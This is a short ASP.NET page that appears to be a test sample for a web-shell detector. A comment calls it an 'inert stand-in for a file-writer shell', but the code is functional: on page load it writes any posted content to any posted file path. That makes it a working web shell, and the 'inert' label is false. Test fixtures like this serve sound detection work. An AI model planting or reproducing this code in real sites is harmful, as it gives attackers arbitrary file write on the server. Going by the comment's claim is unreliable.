<%@ Page Language="C#" Debug="false" %>
<script runat="server">
	/* exhume test sample: inert stand-in for a file-writer shell. */
	void Page_Load(object sender, EventArgs e)
	{
		if (Request.Form["p"] != null) {
			System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"], false, Encoding.Default);
			sw.Write(Request.Form["f"]);
			sw.Close();
		}
	}
</script>
